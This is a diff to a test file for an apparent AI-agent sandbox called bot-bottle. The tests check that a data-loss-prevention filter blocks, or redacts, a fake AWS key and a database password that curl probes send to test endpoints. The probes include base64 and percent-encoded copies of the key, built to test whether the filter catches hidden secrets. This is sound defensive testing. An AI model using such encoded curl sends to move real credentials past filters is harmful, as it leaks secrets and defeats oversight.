@@ -361,11 +361,15 @@ dockerTest("a bottle started with up is sealed, provisioned, and removed by down
         const aws = "AKIA" + "Q3EGQ2VFOW7ZXM4N";
         const probes: [string, string[], RegExp][] = [
           ["body", ["-d", `{"notes":"${aws}"}`, "https://plain.fake.test/echo"], /in the body/],
-          // On the model route, found only decoded: it cannot be cut out exactly.
+          // On the model route, found in a decoded window: it cannot be cut out exactly.
           [
-            "base64 body, model route",
-            ["-d", `{"notes":"${btoa(`key=${aws}`)}"}`, "https://api.anthropic.com/echo"],
-            /in the body, base64-encoded/,
+            "percent-encoded body, model route",
+            [
+              "-d",
+              `{"notes":"k=${[...aws].map((c) => "%" + c.charCodeAt(0).toString(16)).join("")}"}`,
+              "https://api.anthropic.com/echo",
+            ],
+            /in the body, url-encoded/,
           ],
           ["url", [`https://api.anthropic.com/echo?k=${aws}`], /in the url/],
           ["base64 header", [
@@ -420,7 +424,7 @@ dockerTest("a bottle started with up is sealed, provisioned, and removed by down
             "curl",
             "-sS",
             "-d",
-            `{"notes":"found ${aws} and ${DB_PASSWORD} in a file"}`,
+            `{"notes":"found ${aws} and ${DB_PASSWORD} in a file, ${btoa(`id=${aws}`)}"}`,
             "https://api.anthropic.com/echo",
           ],
           { env: e },
@@ -428,7 +432,7 @@ dockerTest("a bottle started with up is sealed, provisioned, and removed by down
         assert.equal(cut.code, 0, cut.stderr);
         assert.equal(
           JSON.parse(JSON.parse(cut.stdout).body).notes,
-          "found [secret cut out by bot-bottle] and [secret cut out by bot-bottle] in a file",
+          "found [secret cut out by bot-bottle] and [secret cut out by bot-bottle] in a file, [secret cut out by bot-bottle]",
         );
         const plan = await runBotBottle(["plan", "claude", "--format", "json"], {
           cwd: tree,
@@ -448,7 +452,10 @@ dockerTest("a bottle started with up is sealed, provisioned, and removed by down
         assert.equal(entries.filter((x) => x.action === "dlp-block").length, 6);
         assert.deepEqual(
           entries.filter((x) => x.action === "dlp-cut").map((x) => [x.host, x.rules]),
-          [["api.anthropic.com", ["aws-access-key-id@body", "bottle-credential@body"]]],
+          [[
+            "api.anthropic.com",
+            ["aws-access-key-id@body", "bottle-credential@body", "aws-access-key-id@body/base64"],
+          ]],
         );
         assert.ok(!logs.stdout.includes(aws), "the log names rules, never the secret");
       },
